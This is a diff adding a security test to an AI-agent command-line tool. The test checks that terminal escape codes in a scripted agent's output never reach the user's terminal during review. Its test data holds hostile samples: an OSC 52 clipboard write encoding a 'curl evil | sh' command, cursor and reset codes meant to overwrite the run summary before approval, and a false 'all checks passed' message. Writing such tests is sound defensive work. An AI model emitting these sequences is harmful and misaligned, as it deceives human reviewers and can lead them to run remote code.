@@ -460,3 +460,38 @@ def test_code_the_guard_cannot_read_before_it_runs_stays_in_the_sandbox(store, t
         assert "root:" not in (workspace / "leak.txt").read_text()
     finally:
         host_marker.unlink(missing_ok=True)
+
+
+RAW_TERMINAL_CODES = ("\x1b]", "\x1bM", "\x1bc", "\x1b7", "\x1b8", "\x1bP", "\u202e")  # OSC, cursor, reset, DCS, RTL
+
+
+@needs_bwrap
+def test_the_agents_text_never_drives_the_users_terminal(tmp_path, _home):
+    # From inside the sandbox, output that would write the user's clipboard (OSC 52: a command to paste),
+    # move the cursor up over the summary and reset the terminal: in the live view, the summary,
+    # `runs show`, `runs diff` (the review before `runs apply`) and `audit show`.
+    import json
+
+    from tests.safety.test_cli_approval import _run_in_pty
+
+    clip = "\\033]52;c;Y3VybCBldmlsIHwgc2g=\\033\\\\"
+    script = [{"kind": "bash", "command": f"printf '{clip}\\033M\\033M\\033c\\342\\200\\256ok\\n'"},
+              {"kind": "write_file", "path": "notes.txt", "content": "fine\n\x1b]52;c;Y3VybA==\x1b\\\x1bM\x1b[2Khidden\n"},
+              {"kind": "finish", "answer": "done \x1bM\x1bM\x1bc\x1b]0;title\x1b\\ all checks passed"}]
+    path = tmp_path / "s.json"
+    path.write_text(json.dumps(script))
+    env = {**os.environ, "MACROHARD_HOME": str(_home), "COLUMNS": "200"}
+    cli = [sys.executable, "-c", "from macrohard.cli import main; main()"]
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    out = _run_in_pty([*cli, "run", "t", "--model", f"scripted:{path}", "--workspace", str(ws)], b"", env)
+    from macrohard.store.sqlite import SQLiteStore
+
+    store = SQLiteStore(_home / "runs.db")
+    run_id = store.list_runs()[0].id
+    store.close()
+    for args in (["runs", "show", run_id], ["runs", "diff", run_id], ["audit", "show", run_id]):
+        out += _run_in_pty([*cli, *args], b"", env)
+    for raw in RAW_TERMINAL_CODES:
+        assert raw not in out, f"{raw!r} from the agent reached the user's terminal"
+    assert "\\x1b]52;c;" in out and "all checks passed" in out and "hidden" in out  # shown, as text
